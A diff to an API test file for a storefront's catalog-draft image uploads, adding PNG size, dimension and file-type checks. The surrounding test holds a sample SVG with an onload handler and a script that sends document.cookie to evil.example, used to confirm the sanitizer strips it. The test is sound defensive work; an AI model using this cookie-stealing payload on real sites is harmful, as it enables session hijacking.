@@ -6,11 +6,28 @@
  */
 import fs from 'node:fs';
 import path from 'node:path';
+import zlib from 'node:zlib';
 import YAML from 'yaml';
 import type { CatalogDiff, CatalogDraft, CountryFile } from '@storefront/shared/contract';
 import { apiRoot } from '../../src/paths';
 import { draftImages } from '../../src/db/repositories/catalog-drafts';
 import { describeOperatorApi, signInAs, type ConsoleClient, type OperatorApi } from '../support/operator-kit';
+
+/** A PNG's signature, header chunk (its dimensions) and end chunk, as an image editor writes them. */
+function pngOf(width: number, height: number): Buffer {
+  const chunk = (type: string, data: Buffer) => {
+    const length = Buffer.alloc(4);
+    length.writeUInt32BE(data.length);
+    const crc = Buffer.alloc(4);
+    crc.writeUInt32BE(zlib.crc32(Buffer.concat([Buffer.from(type), data])));
+    return Buffer.concat([length, Buffer.from(type), data, crc]);
+  };
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header.set([8, 6, 0, 0, 0], 8);
+  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', header), chunk('IEND', Buffer.alloc(0))]);
+}
 
 const seedFile = (market: string) => fs.readFileSync(path.join(apiRoot, 'seed', 'catalog', `${market}.yaml`), 'utf8');
 
@@ -153,7 +170,7 @@ describeOperatorApi('catalog drafts', (api: OperatorApi) => {
     expect(outOfRange.json().problems).toEqual([{ path: ['cards', 1, 'costs', 'purchaseRate'], message: 'Purchase rate (% a year) must be a number from 0 to 99' }]);
   });
 
-  it('an uploaded SVG comes back without its script, event handlers and external references; an oversized PNG is refused', async () => {
+  it('an uploaded SVG comes back without its script, event handlers and external references; a PNG too large, too wide or not a PNG is refused', async () => {
     const draft = await newDraft();
     const svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10" onload="steal()">'
       + '<script>fetch("https://evil.example/?c=" + document.cookie)</script>'
@@ -172,11 +189,17 @@ describeOperatorApi('catalog drafts', (api: OperatorApi) => {
     const missing = await putEntity(editor, draft, 'card', card.id, 1, { ...card, image: 'never-uploaded.svg' });
     expect(missing.json().problems).toEqual([{ path: ['image'], message: 'The image never-uploaded.svg has not been uploaded' }]);
 
-    const png = Buffer.alloc(600 * 1024);
-    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]).copy(png);
-    const big = await editor.post('/catalog/images', { draftId: draft.id, folder: 'cards', name: 'big.png', dataBase64: png.toString('base64') });
-    expect(big.statusCode).toBe(422);
-    expect(big.json().problems[0].message).toMatch(/PNG/);
+    const upload = (name: string, body: Buffer) => editor.post('/catalog/images', { draftId: draft.id, folder: 'cards', name, dataBase64: body.toString('base64') });
+    const fine = await upload('card-art.png', pngOf(640, 400));
+    expect(fine.statusCode).toBe(201);
+    expect(fine.json()).toMatchObject({ contentType: 'image/png', width: 640, height: 400, removed: [] });
+    const huge = await upload('huge.png', pngOf(4000, 400));
+    expect(huge.statusCode).toBe(422);
+    expect(huge.json().problems).toEqual([{ path: ['dataBase64'], message: 'A PNG image may be at most 2048 × 2048 pixels (this one is 4000 × 400)' }]);
+    const heavy = await upload('heavy.png', Buffer.concat([pngOf(100, 100), Buffer.alloc(600 * 1024)]));
+    expect(heavy.json().problems).toEqual([{ path: ['dataBase64'], message: 'A PNG image may be at most 512 KB' }]);
+    const disguised = await upload('fake.png', Buffer.from(svg));
+    expect(disguised.json().problems).toEqual([{ path: ['dataBase64'], message: 'The file is not a PNG image' }]);
   });
 
   it('a role other than catalog is refused every catalog draft route; admin may read drafts but not write them', async () => {
